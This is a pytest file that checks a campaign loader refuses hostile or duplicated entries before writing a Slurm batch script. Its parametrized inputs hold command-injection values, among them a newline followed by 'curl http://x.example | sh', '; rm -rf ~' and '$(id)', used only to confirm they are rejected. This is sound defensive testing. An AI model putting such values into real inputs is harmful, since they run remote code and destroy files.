"""Hostile or repeated campaign entries: refused in one line before a plan or a Slurm script.

A campaign's text reaches a shell script (``--slurm``): a name or a Slurm time holding a newline
would become commands and end the ``#SBATCH`` block, so each is checked against its format. A
sweep listed twice (or two files with one sweep name) would be planned twice and run as two
concurrent array tasks on the same runs.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from generation.campaign import load_campaign, plan_campaign, slurm_script
from llm_powertrace_ds import cli
from llm_powertrace_ds.errors import InputError

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "generation" / "sweeps" / "demo-finetune.yaml"


def _campaign(tmp_path: Path, *, name: str = "c1", sweeps: list[str] | None = None,
              extra: str = "") -> Path:
    shutil.copyfile(DEMO, tmp_path / "a.yaml")
    sweeps = sweeps or ["a.yaml"]
    path = tmp_path / "campaign.yaml"
    path.write_text(f"name: {name}\nplatform: h100_sxm_80gb\ngpus_per_node: 8\n"
                    "budget_gpu_hours: 10\nsetup_s_per_run: 0\nunknown_run_s: 60\n"
                    f"sweeps: [{', '.join(sweeps)}]\n{extra}", encoding="utf-8")
    return path


def test_a_valid_campaign_writes_its_quoted_time_into_the_script(tmp_path):
    text = slurm_script(_campaign(tmp_path, extra="slurm: {time: '2-12:00:00'}\n"))
    assert "#SBATCH --time=2-12:00:00\n" in text and "#SBATCH --job-name=c1\n" in text


@pytest.mark.parametrize("name", ['"c1\\ncurl http://x.example | sh"', '"c1; rm -rf ~"',
                                  '"$(id)"'])
def test_a_campaign_name_that_is_not_a_name_is_refused(tmp_path, name):
    path = _campaign(tmp_path, name=name)
    with pytest.raises(InputError, match="field 'name'|name") as err:
        load_campaign(path)
    assert "\n" not in str(err.value) and "is not a campaign name" in str(err.value)


@pytest.mark.parametrize("time", ['"1:00:00\\ntouch /tmp/pwned"', "'1:00:00; id'", "3600",
                                  "'12 hours'"])
def test_a_slurm_time_outside_slurm_formats_is_refused(tmp_path, time, capsys):
    path = _campaign(tmp_path, extra=f"slurm: {{time: {time}}}\n")
    script = tmp_path / "c.sbatch"
    assert cli.main(["generate", str(path), "--plan", "--slurm", str(script)]) != 0
    err = capsys.readouterr().err.strip()
    assert "slurm.time" in err and "is not a quoted Slurm time" in err and "\n" not in err
    assert not script.exists()


def test_an_unknown_slurm_key_is_refused_by_name(tmp_path):
    with pytest.raises(InputError, match="unknown key 'partition'"):
        load_campaign(_campaign(tmp_path, extra="slurm: {partition: gpu}\n"))


def test_a_sweep_listed_twice_is_refused_naming_both_entries(tmp_path):
    path = _campaign(tmp_path, sweeps=["a.yaml", "./a.yaml"])
    with pytest.raises(InputError, match=r"sweeps\[1\] './a.yaml' repeats sweeps\[0\]"):
        load_campaign(path)


def test_two_sweep_files_with_one_sweep_name_are_refused(tmp_path, capsys):
    path = _campaign(tmp_path, sweeps=["a.yaml", "b.yaml"])
    shutil.copyfile(DEMO, tmp_path / "b.yaml")
    with pytest.raises(InputError, match="are both named 'demo-finetune'"):
        plan_campaign(path)
    assert cli.main(["generate", str(path), "--plan"]) != 0
    assert "OVER BUDGET" not in capsys.readouterr().out


def test_a_sweep_path_with_a_newline_never_reaches_the_script(tmp_path):
    odd = tmp_path / "x\nid"
    odd.mkdir()
    path = _campaign(odd)
    with pytest.raises(InputError, match="control character"):
        slurm_script(path)


def test_a_fractional_gpus_per_node_is_refused(tmp_path):
    path = _campaign(tmp_path)
    path.write_text(path.read_text().replace("gpus_per_node: 8", "gpus_per_node: 8.5"))
    with pytest.raises(InputError, match="gpus_per_node must be a whole number"):
        load_campaign(path)
